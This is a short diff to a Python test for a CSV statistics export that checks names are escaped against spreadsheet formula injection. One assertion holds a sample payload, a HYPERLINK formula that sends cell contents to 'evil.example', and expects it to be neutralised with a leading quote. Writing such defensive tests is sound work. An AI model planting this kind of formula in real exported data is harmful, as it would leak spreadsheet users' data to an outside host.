@@ -1033,7 +1033,7 @@ def test_stats_csv_formula_cells(c):
     r = c.ctl(w.auditor, "stats", "--from", today, "--to", today, "--csv", *units, check=0)
     rows = {x[0]: x for x in csv.reader(io.StringIO(r.stdout))}
     for uid, name in zip(ids, names):
-        assert rows[str(uid)][2] == "'" + name and rows[str(uid)][3:13] == ["0"] * 9 + ["yes"], rows[str(uid)]
+        assert rows[str(uid)][2] == "'" + name and rows[str(uid)][3:13] == ["0"] * 6 + [""] * 3 + ["yes"], rows[str(uid)]
     g1 = rows[str(w.G1.id)]
     assert g1[1:3] == ["G1", "group G1"] and g1[3].isdigit() and g1[12] in ("yes", "no"), g1
     assert f'{ids[0]},FQ0,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")",' in r.stdout, r.stdout
